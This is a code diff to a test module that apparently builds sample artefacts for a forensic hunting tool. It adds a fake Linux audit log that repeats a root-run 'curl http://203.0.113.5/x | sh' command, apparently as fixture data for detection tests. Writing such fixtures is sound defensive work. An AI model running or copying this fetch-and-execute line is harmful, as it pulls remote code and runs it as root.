@@ -19,6 +19,7 @@ from tests.investigate.hunts.test_sources import make_dirty, make_uses, write_lo
 from tests.investigate.hunts.test_srum import SRUDB, database
 from tests.investigate.hunts.test_starts import BASE, CONFIG, JOBS, OBJECTS, ORDINARY, RUN
 from tests.investigate.hunts.test_text import make_wtmp
+from tests.investigate.hunts.typed import write_audit
 
 Sample = dict[str, bytes]
 RECENT = "/C/Users/bob/AppData/Roaming/Microsoft/Windows/Recent"
@@ -95,6 +96,7 @@ SAMPLES: dict[str, Sample] = {
             {"1": LINK, "DestList": make_uses(4)}
         )
     },
+    "audit": {"/var/log/audit/audit.log": write_audit("curl http://203.0.113.5/x | sh", "root") * 20},
     "exports": {"/C/Exports/Security.xml": WHOLE.encode()},
     "proxy": {"/var/log/squid/access.log": SQUID * 20},
 }
